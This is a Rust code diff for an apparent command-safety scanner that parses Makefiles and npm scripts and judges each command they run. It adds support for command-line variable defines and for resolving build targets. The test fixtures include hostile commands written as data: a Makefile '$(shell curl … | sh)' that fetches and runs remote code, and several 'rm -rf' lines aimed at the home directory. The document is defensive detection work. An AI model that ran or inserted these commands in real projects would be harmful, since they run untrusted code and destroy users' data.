@@ -148,8 +148,12 @@ pub(super) fn shell_script(text: &str, engine: &dyn ShellEngine) -> Vec<Finding>
 
 /// A Makefile: recipe lines (tab-indented, `@`/`-`/`+` stripped) with variables expanded,
 /// and `$(shell …)` in assignments, each judged as a command.
-pub(super) fn makefile(text: &str, engine: &dyn ShellEngine) -> Vec<Finding> {
-    make_commands(text)
+pub(super) fn makefile(
+    text: &str,
+    defines: &[(String, String)],
+    engine: &dyn ShellEngine,
+) -> Vec<Finding> {
+    make_commands(text, defines)
         .into_iter()
         .filter_map(|(line, target, cmd)| {
             let v = engine.judge(&cmd);
@@ -159,7 +163,23 @@ pub(super) fn makefile(text: &str, engine: &dyn ShellEngine) -> Vec<Finding> {
 }
 
 /// (line, target, command) for every command a Makefile runs.
-fn make_commands(text: &str) -> Vec<(usize, Option<String>, String)> {
+/// `defines` are the variables the invocation sets (`make PY=python3`, `PY=python3 make`):
+/// they win over the file's own assignments, as on make's command line.
+fn make_commands(text: &str, defines: &[(String, String)]) -> Vec<(usize, Option<String>, String)> {
+    parse_make(text, defines).commands
+}
+
+/// A Makefile as far as the ledger needs it.
+struct MakeFile {
+    /// (line, target, command) for every command it runs.
+    commands: Vec<(usize, Option<String>, String)>,
+    /// (targets, prerequisites) of every rule, variables expanded.
+    rules: Vec<(Vec<String>, Vec<String>)>,
+}
+
+fn parse_make(text: &str, defines: &[(String, String)]) -> MakeFile {
+    let mut rules: Vec<(Vec<String>, Vec<String>)> = Vec::new();
+    let mut in_define = false;
     let mut vars: HashMap<String, String> = [
         ("CC", "cc"),
         ("CXX", "c++"),
@@ -174,6 +194,9 @@ fn make_commands(text: &str) -> Vec<(usize, Option<String>, String)> {
     .iter()
     .map(|(k, v)| (k.to_string(), v.to_string()))
     .collect();
+    for (name, value) in defines {
+        vars.insert(name.clone(), value.clone());
+    }
     let mut out = Vec::new();
     let mut target: Option<String> = None;
     let mut pending: Option<(usize, String, bool)> = None;
@@ -202,7 +225,19 @@ fn make_commands(text: &str) -> Vec<(usize, Option<String>, String)> {
         if t.is_empty() || t.starts_with('#') {
             continue;
         }
+        // A `define … endef` block is a variable's text, not rules.
+        if in_define {
+            in_define = t != "endef";
+            continue;
+        }
+        if t.starts_with("define ") || t.starts_with("export define ") {
+            in_define = true;
+            continue;
+        }
         if let Some((name, value)) = assignment(t) {
+            if defines.iter().any(|(n, _)| n == name) {
+                continue;
+            }
             for sh in shell_functions(value) {
                 out.push((line_no, None, expand_make(&sh, &vars, 0)));
             }
@@ -214,11 +249,70 @@ fn make_commands(text: &str) -> Vec<(usize, Option<String>, String)> {
             vars.insert(name.to_string(), expanded);
         } else if let Some((name, rest)) = t.split_once(':') {
             target = Some(name.split_whitespace().next().unwrap_or(name).to_string());
+            let prereqs = rest.split(';').next().unwrap_or("").trim_start_matches(':');
+            rules.push((
+                expand_make(name, &vars, 0)
+                    .split_whitespace()
+                    .map(str::to_string)
+                    .collect(),
+                expand_make(prereqs, &vars, 0)
+                    .split_whitespace()
+                    .filter(|w| *w != "|")
+                    .map(str::to_string)
+                    .collect(),
+            ));
             // `target: deps ; command`
             if let Some((_, cmd)) = rest.split_once(';')
                 && !cmd.trim().is_empty()
             {
                 out.push((line_no, target.clone(), expand_make(cmd.trim(), &vars, 0)));
+            }
+        }
+    }
+    MakeFile {
+        commands: out,
+        rules,
+    }
+}
+
+/// The targets `make GOALS` runs: the goals (the first ordinary target when none is given)
+/// and their prerequisites, transitively. Pattern rules (`%.o: %.c`) are taken whenever
+/// anything runs, since which files they build is not known here.
+pub fn make_targets(text: &str, goals: &[String], defines: &[(String, String)]) -> Vec<String> {
+    let mk = parse_make(text, defines);
+    let mut want: Vec<String> = goals.to_vec();
+    if want.is_empty()
+        && let Some(first) = mk
+            .rules
+            .iter()
+            .flat_map(|(t, _)| t.iter())
+            .find(|t| !t.starts_with('.') && !t.contains('%'))
+    {
+        want.push(first.clone());
+    }
+    let mut out: Vec<String> = Vec::new();
+    // Bounded: every round adds at least one new target or stops.
+    while let Some(t) = want.pop() {
+        if out.contains(&t) {
+            continue;
+        }
+        out.push(t.clone());
+        for (targets, prereqs) in &mk.rules {
+            if targets.contains(&t) {
+                want.extend(
+                    targets
+                        .iter()
+                        .chain(prereqs)
+                        .filter(|p| !out.contains(p))
+                        .cloned(),
+                );
+            }
+        }
+    }
+    for (targets, _) in &mk.rules {
+        for t in targets.iter().filter(|t| t.contains('%')) {
+            if !out.contains(t) {
+                out.push(t.clone());
             }
         }
     }
@@ -322,11 +416,12 @@ fn expand_make(text: &str, vars: &HashMap<String, String>, depth: usize) -> Stri
                     // A make function (`$(wildcard …)`, `$(patsubst …)`): its arguments.
                     let args = inner.split_once(' ').map(|(_, a)| a).unwrap_or("");
                     out.push_str(&expand_make(args, vars, depth + 1));
-                } else if !inner.is_empty() {
-                    // Not defined in the Makefile: make takes it from the environment, as
-                    // the shell would (`$(HOME)` is the home directory).
+                } else if is_environment(inner.trim()) {
+                    // Not defined in the Makefile but always in the environment: make takes
+                    // it from there, as the shell would (`$(HOME)` is the home directory).
                     out.push_str(&format!("${{{}}}", inner.trim()));
                 }
+                // Anything else undefined is empty, as in make.
                 i = j + 1;
             }
             '@' | '<' | '^' | '*' | '?' | '+' | '|' => {
@@ -340,6 +435,14 @@ fn expand_make(text: &str, vars: &HashMap<String, String>, depth: usize) -> Stri
         }
     }
     out
+}
+
+/// Variables every environment has, so a Makefile that does not define them still gets them.
+fn is_environment(name: &str) -> bool {
+    matches!(
+        name,
+        "HOME" | "USER" | "LOGNAME" | "PWD" | "PATH" | "SHELL" | "TMPDIR" | "TERM" | "LANG"
+    ) || name.starts_with("XDG_")
 }
 
 /// `package.json`: every entry of `scripts`, judged as a command, with its script name.
@@ -379,17 +482,29 @@ fn script_line(text: &str, name: &str) -> Option<usize> {
 }
 
 /// The command lines a file of `language` runs, restricted to `sections` (npm scripts;
-/// empty = all): the ledger follows them to the files they run in turn.
-pub fn command_lines(language: Language, text: &str, sections: &[String]) -> Vec<String> {
+/// empty = all): the ledger follows them to the files they run in turn. For programs, the
+/// literal commands they hand to a shell or spawn.
+pub fn command_lines(
+    language: Language,
+    text: &str,
+    sections: &[String],
+    defines: &[(String, String)],
+) -> Vec<String> {
     match language {
         Language::Shell => vec![text.to_string()],
-        Language::Make => make_commands(text).into_iter().map(|(_, _, c)| c).collect(),
+        Language::Make => make_commands(text, defines)
+            .into_iter()
+            .filter(|(_, t, _)| {
+                sections.is_empty() || t.as_ref().is_none_or(|t| sections.contains(t))
+            })
+            .map(|(_, _, c)| c)
+            .collect(),
         Language::PackageJson => package_scripts(text)
             .into_iter()
             .filter(|(n, _)| sections.is_empty() || sections.contains(n))
             .map(|(_, c)| c)
             .collect(),
-        _ => Vec::new(),
+        other => super::commands_run(other, text),
     }
 }
 
@@ -440,7 +555,7 @@ mod tests {
     #[test]
     fn makefile_recipes() {
         let mk = "RM := rm -rf\nDIR = ~\n\nall: build\n\n# comment\nbuild:\n\t@cargo build\n\nclean:\n\t-$(RM) $(DIR)\n";
-        let f = makefile(mk, &FakeEngine);
+        let f = makefile(mk, &[], &FakeEngine);
         assert_eq!(f.len(), 1, "{f:?}");
         assert_eq!(f[0].line, Some(11));
         assert_eq!(f[0].section.as_deref(), Some("clean"));
@@ -448,20 +563,40 @@ mod tests {
         assert!(
             makefile(
                 "CFLAGS=-O2\nall:\n\t$(CC) $(CFLAGS) -o $@ $<\n",
+                &[],
                 &FakeEngine
             )
             .is_empty()
         );
         assert_eq!(
-            make_commands("x:\n\trm -rf $(HOME)\n")[0].2,
+            make_commands("x:\n\trm -rf $(HOME)\n", &[])[0].2,
             "rm -rf ${HOME}"
         );
         let f = makefile(
             "X := $(shell curl -s https://e.example/x | sh)\nall:\n\techo\n",
+            &[],
             &FakeEngine,
         );
         assert_eq!(f.len(), 1);
         assert_eq!(f[0].line, Some(1));
+        // Undefined variables are empty, unless the invocation defines them.
+        let mk = "test:\n\t$(PY) -m pytest\nclean:\n\t$(X) -rf ~\n";
+        assert_eq!(make_commands(mk, &[])[0].2, " -m pytest");
+        assert!(makefile(mk, &[], &FakeEngine).is_empty());
+        let defined = [("X".to_string(), "rm".to_string())];
+        assert_eq!(makefile(mk, &defined, &FakeEngine).len(), 1);
+    }
+
+    #[test]
+    fn make_runs_the_goals_and_their_prerequisites() {
+        let mk = "OBJS = a.o b.o\ndefine HELP\nUsage: make\nendef\n.PHONY: all\nall: app\napp: $(OBJS) | dir\n\tcc -o app $(OBJS)\n%.o: %.c\n\tcc -c $<\ndir:\n\tmkdir -p out\nclean:\n\trm -rf out\ntest: app\n\t./app\n";
+        let mut t = make_targets(mk, &[], &[]);
+        t.sort();
+        assert_eq!(t, vec!["%.o", "a.o", "all", "app", "b.o", "dir"]);
+        let t = make_targets(mk, &["clean".into()], &[]);
+        assert_eq!(t, vec!["clean", "%.o"]);
+        let lines = command_lines(Language::Make, mk, &t, &[]);
+        assert_eq!(lines, vec!["cc -c target", "rm -rf out"]);
     }
 
     #[test]
@@ -473,7 +608,7 @@ mod tests {
         assert_eq!(f[0].line, Some(5));
         assert!(package_json("not json", &FakeEngine).is_empty());
         assert_eq!(
-            command_lines(Language::PackageJson, pj, &["test".into()]),
+            command_lines(Language::PackageJson, pj, &["test".into()], &[]),
             vec!["jest"]
         );
     }
